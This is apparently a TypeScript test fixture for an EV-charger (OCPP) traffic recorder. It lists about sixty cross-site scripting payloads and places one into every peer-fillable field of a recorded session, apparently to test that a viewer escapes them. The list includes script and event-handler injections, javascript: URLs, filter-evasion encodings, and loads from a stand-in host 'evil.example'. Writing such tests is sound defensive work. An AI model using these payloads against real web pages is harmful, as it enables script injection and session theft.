// Sixty texts with which a charger could inject markup or script into a page, and a recording with one of them in every
// place that a peer can fill.
import { utf8 } from "../../../src/base/bytes.js";
import type { Entry } from "../../../src/cassette/format/entry.js";
import { closeBody } from "../../../src/wire/websocket/close-frame.js";
import { encodeFrame, opcodes } from "../../../src/wire/websocket/frame.js";
import { fromCharger, fromCsms, session } from "./entries.js";

const deed = "globalThis.hacked=1";

const tags = [
  `<script>${deed}</script>`,
  `</script><script>${deed}</script>`,
  `</SCRIPT\t><ScRiPt>${deed}</sCrIpT>`,
  `<script src=data:text/javascript,${deed}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `</style><script>${deed}</script>`,
  `</title><script>${deed}</script>`,
  `</textarea><script>${deed}</script>`,
  `</pre></li></ol><script>${deed}</script>`,
  `</noscript><script>${deed}</script>`,
  `<!--<script>${deed}</script>-->`,
  `--><script>${deed}</script><!--`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<script type="module">${deed}</script>`,
  `<script type="application/json" id="data">{"rows":[],"texts":[]}</script>`,
  `<img src=x onerror=${deed}>`,
  `<img src=x onerror="${deed}">`,
  `<img src=x oneonerrorrror=${deed}>`,
  `<img/src="x"/onerror=${deed}//`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
  `<math><mi//xlink:href="data:x,<script>${deed}</script>">`,
  `<body onload=${deed}>`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="javascript:${deed}"></object>`,
  `<embed src="javascript:${deed}">`,
  `<a href="javascript:${deed}">x</a>`,
  `<a href="JaVaScRiPt:${deed}">x</a>`,
  `<a href="java\tscript:${deed}">x</a>`,
  `<a href="&#106;avascript:${deed}">x</a>`,
  `<base href="javascript:${deed}//">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="javascript:${deed}"><button>x</button></form>`,
  `<input autofocus onfocus=${deed}>`,
  `<details open ontoggle=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<marquee onstart=${deed}>`,
  `<template><script>${deed}</script></template>`,
];

const others = [
  `" onmouseover="${deed}`,
  `' onmouseover='${deed}`,
  `" autofocus onfocus=${deed} x="`,
  `javascript:${deed}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${deed}>`,
  `"];${deed};//`,
  `\\"];${deed};//`,
  `\`\${${deed}}\``,
  `\u2028${deed}\u2029`,
  `\u2028</script><script>${deed}</script>`,
  `{{constructor.constructor("${deed}")()}}`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `\u0000<script>${deed}</script>`,
  `\u202e<script>${deed}</script>`,
  `\ufeff＜script＞${deed}＜/script＞`,
  `<scr\u0000ipt>${deed}</scr\u0000ipt>`,
];

/** The texts. */
export const hostileTexts: readonly string[] = [...tags, ...others];

/** A recording with this text in every place. */
export function hostileRecording(text: string): readonly Entry[] {
  const q = JSON.stringify(text);
  const head = { raw: utf8(`GET /${text} HTTP/1.1\r\nX-Evil: ${text}\r\n\r\n`), hidden: [] };
  const at = 1_000_000;
  const started = `[2,"s","StartTransaction",{"connectorId":${q},"idTag":${q},"meterStart":1,"timestamp":"2026-01-01T00:00:00Z",${q}:${q}}]`;
  const readings = `[{"timestamp":${q},"sampledValue":[{"value":"2","unit":${q}},{"value":"3","measurand":"Power.Active.Import","phase":${q}}]},{"timestamp":"2026-01-01T00:01:00Z","sampledValue":[{"value":"7"}]}]`;
  const closing = encodeFrame({ opcode: opcodes.close, payload: closeBody(1000, text) });
  const shared = { connection: 1, direction: "cp-to-csms" as const, at };
  return [
    {
      ...session,
      identity: text,
      csms: text,
      tool: text,
      source: text,
      startedAt: "2026-01-01T00:00:00.000Z",
    },
    {
      kind: "connection-opened",
      connection: 1,
      ordinal: 1,
      at,
      identity: text,
      from: text,
      url: text,
      subprotocol: text,
      request: head,
      response: head,
    },
    fromCharger(started),
    fromCsms(`[3,"s",{"transactionId":${q},"idTagInfo":{"status":${q}}}]`),
    fromCharger(`[2,${q},"MeterValues",{"transactionId":${q},"connectorId":${q},"meterValue":${readings}}]`),
    fromCharger(`[2,${q},${q},{${q}:${q}}]`),
    fromCsms(`[4,${q},${q},${q},{${q}:${q}}]`),
    fromCharger(text, { rx: null, tx: null, loggedAt: text }),
    fromCsms(`[3,${q},${q}]`),
    {
      kind: "decision",
      ...shared,
      rule: text,
      fault: text,
      type: "CALL",
      action: text,
      ordinal: 1,
      draw: null,
      outcome: text,
      original: utf8(text),
      sent: [],
    },
    { kind: "injected", ...shared, by: text, raw: utf8(text) },
    { kind: "note", connection: 1, at, code: text, message: text },
    { kind: "marker", at, text },
    { kind: "gap", from: at, to: at, entries: 1, octets: 1, why: text },
    {
      kind: "refused",
      at,
      identity: text,
      from: text,
      url: text,
      by: "csms",
      status: 404,
      reason: text,
      request: head,
      response: head,
      body: utf8(text),
      bodyLength: 3,
    },
    {
      kind: "http-exchange",
      at,
      from: text,
      url: text,
      status: 200,
      request: head,
      requestBody: utf8(text),
      requestLength: 1,
      response: head,
      responseBody: utf8(text),
      responseLength: 1,
    },
    fromCsms("", { raw: closing }),
    { kind: "connection-closed", connection: 1, at, ends: [{ by: "charger", how: "end", at }] },
  ];
}
